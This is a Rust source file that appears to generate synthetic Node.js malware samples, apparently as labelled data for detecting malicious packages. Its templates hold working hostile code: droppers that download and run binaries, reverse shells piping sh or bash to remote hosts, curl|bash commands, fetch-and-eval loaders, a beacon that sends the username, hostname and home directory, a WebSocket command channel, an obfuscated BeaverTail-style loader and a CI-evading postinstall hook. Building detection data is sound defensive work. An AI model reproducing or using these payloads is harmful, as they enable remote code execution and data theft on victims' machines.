//! Droppers for node.

use super::super::super::{Dice, Truth, base64};
use super::super::{agent, halves, salad, underscored};
use super::hidden;

/// For node.
pub(super) fn script(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(10) {
        0 => node_file(dice, truth),
        1 => node_beacon(dice, truth),
        2 => node_shell(dice, truth),
        3 => node_commands(dice, truth),
        4 => node_fetch(dice, truth),
        5 => node_flat(dice, truth),
        6 => node_slices(dice, truth),
        7 => node_socket(dice, truth),
        8 => node_options(dice, truth),
        _ => node_install(dice, truth),
    }
}

fn scheme(url: &str) -> &str {
    url.split(':').next().unwrap_or_default()
}

fn node_file(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".exe", ".bin", ".node"]);
    let (before, word) = hidden(dice, &url, true);
    let file = dice.name();
    format!(
        "const fs = require(«fs»);\nconst os = require(«os»);\nconst path = require(«path»);\nconst web = require(«{}»);\nconst {{ spawn }} = require(«child_process»);\n{before}const target = path.join(os.tmpdir(), «{file}.bin»);\nconst out = fs.createWriteStream(target);\nweb.get({word}, (res) => {{\n  res.pipe(out);\n  out.on('finish', () => {{\n    out.close(() => {{\n      fs.chmodSync(target, 0o755);\n      spawn(target, [], {{ detached: true, stdio: 'ignore' }}).unref();\n    }});\n  }});\n}}).on('error', () => {{}});\n",
        scheme(&url)
    )
}

/// A package that tells where it was installed.
fn node_beacon(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, path) = (dice.host(), format!("/{}", dice.name()));
    let secure = dice.chance(60);
    let kind = if secure { "https" } else { "http" };
    let port = if dice.chance(50) { Some(dice.port()) } else { None };
    let (part, line) = match port {
        Some(port) => (format!(":{port}"), format!("  port: {port},\n")),
        None if dice.chance(50) => {
            (String::new(), format!("  port: {},\n", if secure { 443 } else { 80 }))
        }
        None => (String::new(), String::new()),
    };
    truth.urls.insert(format!("{kind}://{host}{part}{path}"));
    let (before, word) = hidden(dice, &host, true);
    format!(
        "const os = require(«os»);\nconst dns = require(«dns»);\nconst querystring = require(«querystring»);\nconst client = require(«{kind}»);\n{before}const packageJSON = {{ name: «{}», version: «1.{}.0» }};\n\nconst trackingData = JSON.stringify({{\n  p: packageJSON.name,\n  c: __dirname,\n  hd: os.homedir(),\n  hn: os.hostname(),\n  un: os.userInfo().username,\n  dns: dns.getServers(),\n  v: packageJSON.version,\n}});\n\nvar postData = querystring.stringify({{ msg: trackingData }});\n\nvar options = {{\n  hostname: {word},\n{line}  path: «{path}»,\n  method: «POST»,\n  headers: {{\n    'Content-Type': 'application/x-www-form-urlencoded',\n    'Content-Length': postData.length,\n  }},\n}};\n\nvar req = client.request(options, (res) => {{\n  res.on('data', (d) => {{}});\n}});\n\nreq.on('error', (e) => {{}});\nreq.write(postData);\nreq.end();\n",
        dice.name(),
        dice.below(90)
    )
}

fn node_shell(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &host, true);
    match dice.below(4) {
        0 => format!(
            "{before}(function(){{\n    var net = require(«net»),\n        cp = require(«child_process»),\n        sh = cp.spawn(«sh», []);\n    var client = new net.Socket();\n    client[«connect»]({port}, {word}, function(){{\n        client.pipe(sh.stdin);\n        sh.stdout.pipe(client);\n        sh.stderr.pipe(client);\n    }});\n    return /a/;\n}})();\n"
        ),
        1 => format!(
            "{before}const s = require(«net»).connect({{ host: {word}, port: {port} }}, () => {{\n  const p = require(«child_process»).spawn(«/bin/sh», [«-i»]);\n  s.pipe(p.stdin);\n  p.stdout.pipe(s);\n  p.stderr.pipe(s);\n}});\ns.on('error', () => {{}});\n"
        ),
        2 => format!(
            "require('child_process').exec('bash -c \"bash -i >& /dev/tcp/{host}/{port} 0>&1\"')\n"
        ),
        _ => format!(
            "{before}var net = require(«net»), spawn = require(«child_process»)[«spawn»];\nvar HOST = {word};\nvar PORT = «{port}»;\nvar TIMEOUT = «5000»;\nif (typeof String.prototype.contains === 'undefined') {{ String.prototype.contains = function(it) {{ return this.indexOf(it) != -1; }}; }}\nfunction c(HOST, PORT) {{\n    var client = new net.Socket();\n    client[«connect»](PORT, HOST, function() {{\n        var sh = spawn(«/bin/sh», []);\n        client.write('Connected!\\n');\n        client.pipe(sh.stdin);\n        sh.stdout.pipe(client);\n        sh.stderr.pipe(client);\n        sh.on('exit', function(code, signal) {{ client.end('Disconnected!\\n'); }});\n    }});\n    client.on('error', function(e) {{ setTimeout(function() {{ c(HOST, PORT); }}, TIMEOUT); }});\n}}\nc(HOST, PORT);\n"
        ),
    }
}

fn node_commands(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".sh"]);
    let (before, word) = hidden(dice, &url, true);
    match dice.below(4) {
        0 => format!(
            "{before}require(«child_process»)[«exec»]('curl -fsSL ' + {word} + ' | bash', () => {{}});\n"
        ),
        1 => format!(
            "const {{ execSync }} = require(«child_process»);\n{before}try {{\n  execSync(`wget -q -O ./.{0} ${{{word}}} && chmod +x ./.{0} && ./.{0}`, {{ stdio: 'ignore' }});\n}} catch (e) {{}}\n",
            dice.name()
        ),
        2 => format!(
            "{before}const cp = require(«child_process»);\ncp[«spawn»](«curl», [«-s», «-o», «./.p», {word}]).on('close', () => cp[«spawn»](«sh», [«./.p»]));\n"
        ),
        _ => {
            let line = format!("curl -s {url} | sh");
            format!(
                "require('child_process').execSync(Buffer.from('{}', 'base64').toString(), {{stdio:'ignore'}});\n",
                base64(line.as_bytes())
            )
        }
    }
}

fn node_fetch(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".js", "/api", ".json"]);
    let (before, word) = hidden(dice, &url, true);
    match dice.below(5) {
        0 => format!(
            "{before}fetch({word}).then(r => r.text()).then(t => eval(t)).catch(() => {{}});\n"
        ),
        1 => format!(
            "{before}const axios = require(«axios»);\n(async () => {{\n  try {{\n    const r = await axios[«get»]({word}, {{ headers: {{ 'x-secret-header': 'secret' }} }});\n    new Function('require', r.data.model)(require);\n  }} catch (e) {{}}\n}})();\n"
        ),
        2 => format!(
            "{before}(async () => {{\n  const src = {word};\n  const k = '{}';\n  const s = await (await fetch(src, {{ method: «POST», body: JSON.stringify({{ k, e: Object.keys(process.env).length }}) }})).text();\n  eval(s);\n}})().catch(() => {{}});\n",
            salad(dice, 16)
        ),
        3 => format!(
            "{before}const axios = require('axios');\naxios.post({word}, {{ ...{{ n: process.version }} }}).catch(err => err && err.response && eval(err.response.data.credits));\n"
        ),
        _ => format!(
            "{before}const h = require(«{}»);\nh[«get»]({word}, {{ headers: {{ 'User-Agent': '{}' }} }}, r => {{\n  let b = '';\n  r.on('data', c => b += c);\n  r.on('end', () => {{ try {{ eval(b); }} catch (e) {{}} }});\n}}).on('error', () => {{}});\n",
            scheme(&url),
            agent(dice)
        ),
    }
}

/// Lines in another order, as flattening of the control flow leaves them.
fn node_flat(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".js"]);
    let (server, path) = halves(&url);
    let (before, word) = hidden(dice, &server, true);
    let names: Vec<String> = (0..4).map(|_| underscored(dice)).collect();
    let steps = [
        format!("{} = require(«{}»);", names[0], scheme(&url)),
        format!("{} = {word} + «{path}»;", names[1]),
        format!(
            "{} = function(r){{var d='';r[«on»](«data»,function(c){{d+=c;}});r[«on»](«end»,function(){{eval(d);}});}};",
            names[2]
        ),
        format!("{}[«get»]({},{})[«on»](«error»,function(){{}});", names[0], names[1], names[2]),
    ];
    let order = dice.order(4);
    let list: Vec<String> = (0..4)
        .filter_map(|at| order.iter().position(|it| *it == at))
        .map(|at| at.to_string())
        .collect();
    let (flow, at) = (underscored(dice), underscored(dice));
    let mut out = format!(
        "{before}(function(){{var {},{},{};var {flow}='{}'[«split»]('|'),{at}=0x0;while(!![]){{switch({flow}[{at}++]){{",
        names[0],
        names[1],
        names[2],
        list.join("|")
    );
    for (case, step) in order.iter().enumerate() {
        out.push_str(&format!("case'{case}':{}continue;", steps[*step]));
    }
    out + "}break;}}());\n"
}

/// Constants cut out of encoded strings, as in BeaverTail.
fn node_slices(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), dice.port());
    let kind = salad(dice, 7);
    truth.urls.insert(format!("http://{host}:{port}/client/{kind}"));
    let data = base64(format!("http://{host}:{port}").as_bytes());
    let cut = 4 + dice.below(data.len() - 8);
    let (front, back) = data.split_at(cut);
    let (one, two) = (underscored(dice), underscored(dice));
    let words = ["fs", "os", "path", "request", "child_process"];
    let lines: String = words
        .iter()
        .map(|word| {
            format!(
                "const {}=d(\"{}{}\");\n",
                word.replace('_', ""),
                salad(dice, 1),
                base64(word.as_bytes())
            )
        })
        .collect();
    format!(
        "const t=\"base64\",i=\"utf8\",e=t=>Buffer.from(t,\"base64\").toString(i),d=t=>(s1=t.slice(1),e(s1));\n{lines}const {two}=\"{back}\",{one}=\"{front}\";\nconst hostURL=()=>e({one}+{two});\nconst F=require(fs),O=require(os),P=require(path),X=require(childprocess)[d(\"{}{}\")];\nconst hm=O.homedir();\nlet web=require('http');\nconst run=()=>{{\n  const u=hostURL()+\"/client/\"+\"{kind}\";\n  const n=P.join(hm,\".npl\");\n  web.get(u,r=>{{let b='';r.on('data',c=>b+=c);r.on('end',()=>{{try{{F.writeFileSync(n,b);X('python3 \"'+n+'\"',()=>{{}})}}catch(e){{}}}})}}).on('error',()=>{{}});\n}};\nrun();\n",
        salad(dice, 1),
        base64(b"exec")
    )
}

fn node_socket(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), dice.port());
    if dice.chance(50) {
        let url = format!("ws://{host}:{port}/");
        truth.urls.insert(url.clone());
        let (before, word) = hidden(dice, &url, true);
        format!(
            "const WebSocket = require(«ws»);\nconst {{ exec }} = require(«child_process»);\n{before}function up() {{\n  const ws = new WebSocket({word});\n  ws.on('open', () => ws.send(JSON.stringify({{ type: 'hello', id: require(«os»).hostname() }})));\n  ws.on('message', (m) => exec(m.toString(), (e, o) => ws.send(o)));\n  ws.on('close', () => setTimeout(up, 5000));\n  ws.on('error', () => {{}});\n}}\nup();\n"
        )
    } else {
        truth.endpoints.insert((host.clone(), port));
        let (before, word) = hidden(dice, &host, true);
        format!(
            "const tls = require(«tls»);\n{before}const c = tls[«connect»]({port}, {word}, {{ rejectUnauthorized: false }}, () => {{\n  c.write('id ' + process.pid + '\\n');\n}});\nc.on('data', (d) => {{\n  try {{ eval(d.toString()); }} catch (e) {{ c.write(String(e)); }}\n}});\nc.on('error', () => {{}});\n"
        )
    }
}

/// The parts of an address as options.
fn node_options(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".txt"]);
    let (server, path) = halves(&url);
    let rest = server.split("://").nth(1).unwrap_or_default();
    let (host, port) = rest.split_once(':').map_or((rest, None), |(host, port)| (host, Some(port)));
    let port = port.map_or(String::new(), |it| format!("  port: {it},\n"));
    let (before, word) = hidden(dice, host, true);
    let (more, page) = hidden(dice, &path, true);
    format!(
        "{before}{more}var client = require(«{}»);\nvar cfg = {{\n  host: {word},\n{port}  path: {page},\n  headers: {{ 'user-agent': '{}' }},\n  rejectUnauthorized: false\n}};\nclient[«get»](cfg, function (res) {{\n  var parts = [];\n  res.on('data', function (p) {{ parts.push(p); }});\n  res.on('end', function () {{\n    var code = Buffer.concat(parts).toString();\n    try {{ module._compile(code, 'x.js'); }} catch (e) {{}}\n  }});\n}}).on('error', function () {{}});\n",
        scheme(&url),
        agent(dice)
    )
}

/// What runs when a package is installed.
fn node_install(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["/bundle.js", ".tgz", ""]);
    let (before, word) = hidden(dice, &url, true);
    format!(
        "#!/usr/bin/env node\n'use strict';\n// postinstall: see https://www.example.org/docs\n{before}const {{ spawnSync }} = require('child_process');\nconst fs = require('fs');\n\nfunction isCI() {{\n  return Boolean(process.env.JENKINS_FAKE_{0});\n}}\n\nfunction main() {{\n  if (isCI()) return;\n  const file = './.{0}.js';\n  spawnSync('curl', ['-sL', {word}, '-o', file]);\n  if (fs.existsSync(file)) {{\n    spawnSync(process.execPath, [file], {{ stdio: 'ignore' }});\n  }}\n}}\n\nmain();\n",
        dice.name()
    )
}
